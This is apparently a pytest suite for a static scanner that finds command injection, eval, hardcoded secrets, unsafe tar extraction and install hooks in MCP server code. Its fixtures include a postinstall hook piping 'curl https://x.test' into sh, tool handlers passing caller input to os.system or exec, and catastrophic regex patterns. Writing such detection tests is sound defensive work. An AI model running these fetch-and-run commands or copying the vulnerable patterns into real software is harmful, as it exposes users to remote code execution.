from __future__ import annotations

import random
import time

import pytest

from douane.model.facts import NO_READER
from douane.supply.source import choosing
from douane.supply.source.reading import read
from tests._promises import promise
from tests.corpus._sources import samples

SAMPLES = samples()


def broken(text, seed):
    """A program with some pieces taken out, doubled and swapped."""
    draw = random.Random(seed)
    for _ in range(draw.randint(1, 6)):
        start = draw.randrange(len(text) + 1)
        end = min(len(text), start + draw.randint(0, 40))
        other = draw.randrange(len(text) + 1)
        text = draw.choice(
            [
                text[:start] + text[end:],
                text[:end] + text[start:],
                text[:start] + text[other : other + 20] + text[end:],
            ]
        )
    return text


@promise("P-SCAN-RUNS-NOTHING")
@pytest.mark.parametrize("sample", SAMPLES, ids=lambda one: one.name)
def test_no_program_however_broken_ends_the_reading(sample):
    for seed in range(8):
        text = broken(sample.vulnerable, f"{sample.name} {seed}")
        told = read({sample.file: text.encode()})
        assert told.files == 1 or told.unread


@pytest.mark.parametrize(
    ("file", "text"),
    [
        ("a.py", "x = " + "(" * 3000 + ")" * 3000),
        ("a.py", "def f(a):\n  return " + "f(" * 300 + "a" + ")" * 300),
        ("a.js", "x = " + "[" * 5000 + "]" * 5000),
        ("a.js", "a" + "+a" * 5000),
        ("a.js", "f(" * 2000),
        ("a.py", "x = '\\d'\nre.match('[[a]', x)\n"),
        ("a.py", "\0"),
        ("a.ts", "\ufeff\u2028 ```"),
    ],
)
def test_what_is_nested_beyond_measure_is_read_or_said_not_to_be(file, text):
    told = read({file: text.encode("utf-8", "surrogatepass")})
    assert told.files + len(told.unread) >= 1


@pytest.mark.parametrize("pattern", ["(((((a*)*)*)*)*)*$", "((a*){30000}){30000}$", "(a|a)*" * 40])
def test_a_strangers_pattern_costs_little(pattern):
    text = f'import re\nfrom fastmcp import FastMCP\nm = FastMCP("x")\n@m.tool()\ndef f(a: str):\n    if re.match(r"{pattern}", a):\n        open(a)\n'
    began = time.process_time()
    read({"a.py": text.encode()})
    assert time.process_time() - began < 3


def test_functions_that_call_each_other_end():
    calls = "".join(
        f"def f{one}(a):\n    f{(one + 1) % 9}(a)\n    f{(one + 4) % 9}(a + 'x')\n" for one in range(9)
    )
    text = f'from fastmcp import FastMCP\nm = FastMCP("x")\n{calls}@m.tool()\ndef f(a: str):\n    f0(a)\n'
    assert read({"a.py": text.encode()}).files == 1


def test_a_flow_goes_through_the_modules_of_a_package():
    files = {
        "server/__init__.py": b"",
        "server/main.py": b"from fastmcp import FastMCP\nfrom .deep import shell\nfrom server import deep\nm = FastMCP('x')\n@m.tool()\ndef one(a: str):\n    shell.go(a)\n@m.tool()\ndef two(b: str):\n    deep.shell.go(b)\n",
        "server/deep/__init__.py": b"from . import shell\n",
        "server/deep/shell.py": b"import os\ndef go(c):\n    os.system(c)\n",
    }
    (one, *_) = [flaw for flaw in read(files).flaws if flaw.rule.id == "source.command"]
    assert (one.file, one.line, one.tool, one.parameter) == ("server/deep/shell.py", 3, "one", "a")
    assert next(step.file for step in one.trail) == "server/main.py"


def test_names_that_are_exported_as_others_are_followed():
    files = {
        "a.mjs": b'import { exec as x } from "child_process";\nfunction q(c) { x(c); }\nexport { q as go };\n',
        "b.mjs": b'import { go as run } from "./a.mjs";\nserver.tool("t", { c: z.string() }, ({ c }) => run(c));\n',
    }
    assert [flaw.file for flaw in read(files).flaws if flaw.rule.id == "source.command"] == ["a.mjs"]


def test_without_the_extra_scripts_are_said_not_to_be_read(monkeypatch):
    monkeypatch.setattr(choosing, "can_read_scripts", lambda: False)
    told = read({"a.js": b"eval(x)", "b.py": b"x = 1\n"})
    assert told.files == 1
    assert told.unread == (("a.js", NO_READER),)


def test_the_same_flaw_twice_is_two():
    text = b'import os\nfrom fastmcp import FastMCP\nm = FastMCP("x")\n@m.tool()\ndef f(a: str):\n    os.system(a)\n    os.system(a)\n'
    prints = [one.fingerprint for one in read({"a.py": text}).flaws]
    assert len(prints) == len(set(prints)) == 2


def test_a_bundle_in_one_line_is_followed():
    text = (
        'import{exec as e}from"child_process";var C=class{async r(t){return e(`curl ${t}`)}},T={name:"get",handler:h};'
        "async function h(a,c){return c.r(a.url)}function b(s,c){s.tool(T.name,T.d,T.p,n=>T.handler(n,c)),s.tool("
        '"other",T.d,T.p,n=>({}))}b(new S,new C);'
    )
    told = read({"bundle.js": text.encode()})
    assert told.tools == ("get", "other")
    assert [(one.rule.id, one.parameter) for one in told.flaws] == [("source.command", "url")]


@promise("P-SCAN-UNKNOWN")
@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("server/fast.so", b"\x7fELF"),
        ("lib/addon.node", b"\x7fELF"),
        ("server/main.pyc", b"x"),
        ("run.sh", b"curl"),
        ("main.go", b"package main"),
        ("bin/tool", b"#!/usr/bin/env perl\n"),
        ("odd.py", b"# coding: utf-7\n+AG8-s"),
        ("large.js", b"//" * (1 << 20)),
        ("broken.py", b"def ("),
    ],
)
def test_what_runs_and_is_not_read_is_named(path, content):
    told = read({path: content, "fine.py": b"x = 1\n"})
    assert [name for name, _ in told.unread] == [path]
    assert told.files == 1


@pytest.mark.parametrize(
    "path", ["README.md", "package.json", "types.d.ts", ".github/release.sh", "a/__pycache__/b.pyc"]
)
def test_what_does_not_run_is_no_matter(path):
    assert read({path: b"x", "fine.py": b"x = 1\n"}).unread == ()


@pytest.mark.parametrize(
    ("first", "text"),
    [
        ("#!/usr/bin/env node\n", 'server.tool("t", { a: z.string() }, ({ a }) => eval(a));\n'),
        (
            "#!/usr/bin/python3\n",
            "from fastmcp import FastMCP\nm = FastMCP('x')\n@m.tool()\ndef f(a: str):\n    eval(a)\n",
        ),
    ],
)
def test_a_program_without_an_ending_is_read_by_its_first_line(first, text):
    assert [one.rule.id for one in read({"bin/server": (first + text).encode()}).flaws] == ["source.code"]


@pytest.mark.parametrize(
    ("line", "is_secret"),
    [
        ('run(env={"SSHPASS": password})', False),
        ('client({"password": dbPassword})', False),
        ('run(env={"SSHPASS": "correct-horse-9-battery"})', True),
        ("DB_PASSWORD = 'correct-horse-9-battery'", True),
    ],
)
def test_a_name_that_stands_for_a_secret_is_none(line, is_secret):
    flaws = read({"server.py": f"{line}\n".encode()}).flaws
    assert any(one.rule.id == "source.secret" for one in flaws) is is_secret


@pytest.mark.parametrize(
    ("line", "is_told"),
    [
        ("archive.extractall(FOLDER)", True),
        ('archive.extractall(FOLDER, filter="data")', False),
        ("zipped.extractall(FOLDER)", False),
        ("tar.extractall(FOLDER, filter='fully_trusted')", True),
        ("tar.extractall(FOLDER, filter=tarfile.fully_trusted_filter)", True),
        ("tar.extractall(FOLDER, filter=None)", True),
        ("tar.extractall(FOLDER, filter=tarfile.data_filter)", False),
        ("tar.extractall(FOLDER, filter=only_ours)", False),
        ("tar.extractall(FOLDER, filter='tar')", False),
        ("tar.extractall(FOLDER, **options)", False),
        ("tar.extractall(FOLDER)  # no filter = old", True),
        ("tar.extractall(\n    FOLDER,\n    filter='data',\n)", False),
        ("tar.extractall(\n    FOLDER,\n)", True),
        ("tarfile.open(PATH).extractall(FOLDER)", True),
        ("with tarfile.open(PATH) as f:\n    f.extractall(FOLDER)", True),
        ("with zipfile.ZipFile(PATH) as archive:\n    archive.extractall(FOLDER)", False),
        (
            "with tarfile.open(PATH) as f:\n    pass\nwith zipfile.ZipFile(PATH) as f:\n    f.extractall(FOLDER)",
            False,
        ),
        ("def unpack(self):\n    self.tar = tarfile.TarFile(PATH)\n    self.tar.extractall(FOLDER)", True),
        ("# tar.extractall(FOLDER)", False),
    ],
)
def test_a_tarball_that_is_unpacked_without_a_filter_is_told(line, is_told):
    flaws = read({"server.py": f"import tarfile\n{line}\n".encode()}).flaws
    assert any(one.rule.id == "source.unpack" for one in flaws) is is_told


@pytest.mark.parametrize(
    ("named", "is_told"), [("name", True), ('f"handle_{name}"', False), ('"handle"', False)]
)
def test_an_attribute_that_a_caller_names_is_told(named, is_told):
    text = f"from fastmcp import FastMCP\nm = FastMCP('x')\n@m.tool()\ndef f(name: str):\n    return getattr(m, {named})()\n"
    assert any(one.rule.id == "source.code" for one in read({"a.py": text.encode()}).flaws) is is_told


def test_what_runs_at_installation_is_found():
    told = read(
        {
            "package.json": b'{"scripts": {"postinstall": "curl https://x.test | sh", "install": "node-gyp rebuild"}}',
            "setup.py": b"import os\n# os.system is not called here\nos.system('true')\n",
            "a.pth": b"import a\n",
            "paths.pth": b"/usr/lib\n",
            "node_modules/b/c/package.json": b'{"scripts": {"postinstall": "x"}}',
        }
    )
    assert sorted((one.file, one.line, one.rule.id) for one in told.flaws) == [
        ("a.pth", 1, "source.install-fetch"),
        ("package.json", 1, "source.install-fetch"),
        ("package.json", 1, "source.install-hook"),
        ("setup.py", 3, "source.install-hook"),
    ]
